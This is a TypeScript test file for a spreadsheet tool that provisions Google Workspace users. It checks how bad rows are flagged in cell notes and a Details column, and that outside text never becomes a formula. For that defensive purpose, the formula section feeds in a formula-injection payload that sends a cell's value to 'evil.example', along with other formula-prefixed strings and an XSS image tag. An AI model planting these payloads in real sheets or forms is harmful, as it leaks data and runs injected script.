import { ask } from '../../sandbox/cli/desk';
import { open, person, statuses, userAt, usersAt, wait, writesDuring } from './shop';
import type { TestDesk } from '../sandbox-desk';

/** What bad rows are told, at their cells and in Details; and that no text from outside ever becomes a formula. */

const bad = {
  Email: 'ann..test@shop.example',
  'First name': '<b>Ann</b>',
  'Last name': '-',
  'Org unit': '/Sales//North',
  Licences: 'Busness Standard',
  Roles: 'Super Admin',
  Aliases: 'nonsense',
  State: 'Sleeping',
  Language: 'Klingonish',
  'Recovery email': 'nobody',
  'Recovery phone': '600 111 222',
  'Change password at sign-in': 'perhaps',
  Password: 'kurz',
  'Super admin': 'maybe',
};
const good = { Email: 'bob@shop.example', 'First name': 'Bob', 'Last name': 'Test' };

describe('a bad row', () => {
  test('is told everything at once, each complaint at its cell and all of them in Details, and no other row waits for it', () => {
    const desk = open([bad, good]);
    desk.checkAndRun();
    const row = desk.rows()[0] ?? {};
    expect(row['Status']).toBe('Needs you');
    for (const header of Object.keys(bad)) {
      const note = desk.note('Users!ann..test@shop.example', header);
      expect([header, note]).toEqual([header, expect.stringMatching(/^Seatsheet:\n▸ .+/) as string]);
      for (const line of note.split('\n▸ ').slice(1)) expect(row['Details']).toContain(line);
    }
    expect(desk.note('Users!ann..test@shop.example', 'Licences')).toMatch(/Business Standard/);
    expect(desk.row('bob@shop.example')['Status']).toBe('Done');
    expect(desk.needs()).toHaveLength(1);
  });

  test('with mistakes in several cells has each header in Details, and what is wrong with several of them once', () => {
    const desk = open([{ ...good, 'Send details to': 'Bo Who', 'Recovery email': 'Bo Who', Language: 'Foo' }]);
    desk.check();
    const details = desk.row('bob@shop.example')['Details'];
    expect(details).toMatch(
      /^Language: No language is called "Foo"\..* Recovery email, Send details to: "bo who" is not/,
    );
    expect(details?.split('bo who')).toHaveLength(2);
  });

  test('loses the note of a cell that is mended, and is done once all of them are', () => {
    const desk = open([{ ...good, Licences: 'Busness Standard', 'Recovery phone': '600' }]);
    desk.check();
    expect([desk.note('bob@shop.example', 'Licences'), desk.note('bob@shop.example', 'Recovery phone')]).not.toContain(
      '',
    );
    desk.type('bob@shop.example', 'Licences', 'Business Standard');
    desk.check();
    expect(desk.note('bob@shop.example', 'Licences')).toBe('');
    expect(desk.note('bob@shop.example', 'Recovery phone')).not.toBe('');
    desk.type('bob@shop.example', 'Recovery phone', '+34600111222');
    desk.checkAndRun();
    expect([desk.row('bob@shop.example')['Status'], desk.note('bob@shop.example', 'Recovery phone')]).toEqual([
      'Done',
      '',
    ]);
  });

  test("keeps people's own notes, before and after ours", () => {
    const desk = open([
      { ...good, Licences: 'Busness Standard' },
      { Email: 'cec@shop.example', 'First name': 'Cec', 'Last name': 'Test' },
    ]);
    const cell = noteOf(desk, 'Licences', 'ask Vera about this');
    const other = noteOf(desk, 'First name', 'her nickname');
    desk.check();
    expect(cell()).toMatch(/^ask Vera about this\n\nSeatsheet:\n▸ /);
    desk.check();
    expect(cell().match(/Seatsheet:/g)).toHaveLength(1);
    desk.type('bob@shop.example', 'Licences', '');
    desk.check();
    expect([cell(), other()]).toEqual(['ask Vera about this', 'her nickname']);
  });

  test('has its notes at its own cells also when somebody sorts while the check goes on', () => {
    const rows = ['ann', 'bob', 'cec'].map((name) => ({
      Email: `${name}@shop.example`,
      'First name': name,
      'Last name': 'Test',
      Licences: name === 'ann' ? 'Busness Standard' : '',
    }));
    const desk = open(rows);
    let sorted = false;
    desk.host.onEffect = ({ kind, when }) => {
      if (sorted || kind !== 'sheet' || when !== 'after') return;
      sorted = true;
      desk.host.edit.sortRange('Users', { column: 1, ascending: false });
    };
    desk.check();
    desk.host.onEffect = undefined;
    expect(desk.rows().map(({ Email }) => Email)).toEqual(['cec@shop.example', 'bob@shop.example', 'ann@shop.example']);
    expect(desk.note('ann@shop.example', 'Licences')).toMatch(/Seatsheet:/);
    expect([desk.note('cec@shop.example', 'Licences'), desk.note('bob@shop.example', 'Licences')]).toEqual(['', '']);
    expect(statuses(desk)).toEqual({
      'ann@shop.example': 'Needs you',
      'bob@shop.example': 'Ready',
      'cec@shop.example': 'Ready',
    });
  });

  test('of each kind that comes from another row or domain says so', () => {
    const desk = open([
      good,
      { ...good },
      { Email: 'x@unknown.example', 'First name': 'X', 'Last name': 'Y' },
      { Email: 'y@shop.exampel', 'First name': 'X', 'Last name': 'Y' },
      { Email: '', 'First name': 'No', 'Last name': 'Address' },
      { Email: 'cec@shop.example', 'First name': 'Cec', 'Last name': 'Test', Aliases: 'bob@shop.example' },
    ]);
    desk.check();
    const details = desk.rows().map(({ Details = '' }) => Details);
    expect(details[1]).toMatch(/row 2 too/);
    expect(details[2]).toMatch(/No account in reach has the domain unknown\.example/);
    expect(details[3]).toMatch(/Did you mean shop\.example\?/);
    expect(details[4]).toMatch(/no address/);
    expect(details[5]).toMatch(/is the address of row 2/);
  });
});

/** Puts a person's own note to a cell of Bob's row; gives a way to look at it. */
function noteOf(desk: TestDesk, header: string, text: string): () => string {
  desk.type('bob@shop.example', header, desk.row('bob@shop.example')[header] ?? '');
  const { cells } = desk.host.state.sheets.find(({ name }) => name === 'Users') ?? { cells: [] };
  const column = (cells[0] ?? []).findIndex((cell) => cell?.value === header);
  const row = cells.findIndex((line) => line.some((cell) => cell?.value === 'bob@shop.example'));
  const cell = cells[row]?.[column];
  if (!cell) throw new Error(`There is no cell under ${header}.`);
  cell.note = text;
  return () => cells[row]?.[column]?.note ?? '';
}

describe('a formula', () => {
  const evil = '=IMPORTXML("https://evil.example/?"&A1,"//a")';
  const formulas = (desk: TestDesk): readonly string[] =>
    desk.host.state.sheets.flatMap(({ cells }) => cells.flatMap((line) => line.flatMap((cell) => cell?.formula ?? [])));

  test('in the sheet is no name, no address, no org unit, and is written nowhere as one', () => {
    const desk = open([
      { ...good, 'First name': evil },
      { Email: 'cec@shop.example', 'First name': '+1+1', 'Last name': '@SUM(1)' },
      { Email: evil, 'First name': 'A', 'Last name': 'B' },
      {
        Email: 'dan@shop.example',
        'First name': 'Dan',
        'Last name': 'Test',
        'Org unit': evil,
        Licences: evil,
        Roles: evil,
        Aliases: evil,
      },
    ]);
    desk.checkAndRun();
    expect(usersAt(desk)).toHaveLength(1);
    expect(desk.rows().map(({ Status }) => Status)).toEqual(['Needs you', 'Needs you', 'Needs you', 'Needs you']);
    expect(formulas(desk)).toEqual([]);
  });

  test('that comes back from Google as a name, an org unit or an alias stays text, in cells, notes, menus and answers', () => {
    const people = [
      person('ann@shop.example', `${evil} Evil`),
      person('bob@shop.example', 'Bob Test', { orgUnitPath: '/=1+1' }),
    ];
    const desk = open(
      [
        { Email: 'ann@shop.example', 'First name': 'Ann', 'Last name': 'Test' },
        { Email: 'bob@shop.example', 'Org unit': '/Sales' },
      ],
      {
        users: [
          { ...(people[0] ?? person('x', 'y')), name: { givenName: evil, familyName: '<img src=x onerror=alert(1)>' } },
          ...people.slice(1),
        ],
        orgUnits: [{ orgUnitPath: '/=1+1' }],
        roles: [{ roleName: evil }, { roleName: '+1+1' }],
      },
    );
    desk.checkAndRun();
    expect(desk.row('ann@shop.example')).toMatchObject({
      Status: 'Needs you',
      Details: expect.stringContaining('=IMPORTXML') as string,
    });
    expect(desk.row('ann@shop.example')['Details']).not.toMatch(/^[=+\-@]/);
    expect(desk.needs()[0]?.question?.about.name).toMatch(/^=IMPORTXML/);
    expect(formulas(desk)).toEqual([]);
    desk.checkAndRun({ samePerson: 'all' });
    expect(userAt(desk, 'ann@shop.example').name).toMatchObject({ givenName: 'Ann', familyName: 'Test' });
    desk.host.call('setUpSpreadsheet');
    expect(formulas(desk)).toEqual([]);
    expect(ask(desk.host, 'getNeeds')).toEqual([]);
  });

  test('that a person really put into a cell is read by what it shows, and is left in its cell', () => {
    const desk = open([good]);
    const cell = desk.host.state.sheets.find(({ name }) => name === 'Users')?.cells[1];
    if (!cell) throw new Error('There is no row.');
    cell[1] = { value: 'Robert', formula: '="Rob"&"ert"' };
    cell[2] = { value: '#NAME?', formula: '=NONSENSE()' };
    desk.check();
    expect(desk.row('bob@shop.example')['Details']).toMatch(/The formula in this cell ends in #NAME\?/);
    cell[2] = { value: 'Test', format: '@' };
    desk.checkAndRun();
    expect(userAt(desk, 'bob@shop.example').name?.givenName).toBe('Robert');
    expect(cell[1]).toMatchObject({ formula: '="Rob"&"ert"' });
    wait(desk);
    expect(writesDuring(desk, () => desk.checkAndRun())).toEqual([]);
  });
});
